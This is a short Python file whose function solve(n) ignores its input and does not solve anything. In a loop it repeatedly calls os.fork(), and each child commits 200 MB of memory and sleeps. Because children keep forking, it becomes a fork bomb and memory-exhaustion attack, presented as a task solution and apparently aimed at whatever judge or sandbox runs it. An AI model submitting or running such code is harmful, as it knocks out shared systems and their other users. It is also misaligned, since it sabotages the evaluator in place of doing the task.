import os, time
def solve(n):
    for i in range(6):
        if os.fork() == 0:
            x = bytearray(200 << 20)
            x[::4096] = b"1" * len(x[::4096])
            time.sleep(100)
    time.sleep(100)
